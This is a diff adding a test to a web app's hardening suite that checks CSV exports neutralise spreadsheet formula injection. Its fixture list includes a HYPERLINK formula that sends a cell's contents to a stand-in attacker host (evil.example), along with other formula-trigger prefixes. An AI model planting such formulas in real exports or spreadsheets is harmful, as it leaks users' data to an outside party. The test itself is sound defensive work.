@@ -148,6 +148,21 @@ describe('hardening', function () {
     expect(count(server, 'audit_log') - rows, 'only the page views').to.be.at.most(2);
   });
 
+  it('defuses names that a spreadsheet would run as formulas in every CSV export', async () => {
+    const formulas = ['=HYPERLINK("https://evil.example/?d="&A1,"Klicka")', '@SUM(A1:A9)', '+46 70 123', '-2+3', '\t=1+1'];
+    for (const name of formulas) setMeasurementPoint(server.db, createIntervention(server.db, { federationId: fid, name, kind: 'individual' }).id, 'start', 'participant');
+    const admin = await signedIn(server.url, 'admin@hard.example');
+    const csv = await admin.get(`/f/${fid}/compare?format=csv&point=start`);
+    expect(csv.status).to.equal(200);
+    const cells = csv.text.replace(/^\uFEFF/, '').split('\r\n').slice(1).map((line) => line.split(',')[0]!);
+    for (const name of formulas) {
+      // papaparse's escapeFormulae: the cell starts with ' so Excel and LibreOffice show it as text.
+      const quoted = `"'${name.replace(/"/g, '""')}"`;
+      expect(csv.text, name).to.contain(quoted);
+    }
+    expect(cells.filter((c) => /^"?[=+\-@\t]/.test(c))).to.deep.equal([]);
+  });
+
   it('marks every page no-store, so no browser or proxy keeps a copy of personal data', async () => {
     const staff = await signedIn(server.url, 'staff@hard.example', 'Ett nytt lösen för 2027');
     for (const path of [`/f/${fid}/interventions/${iid}/participants`, '/account', '/s', '/login']) {
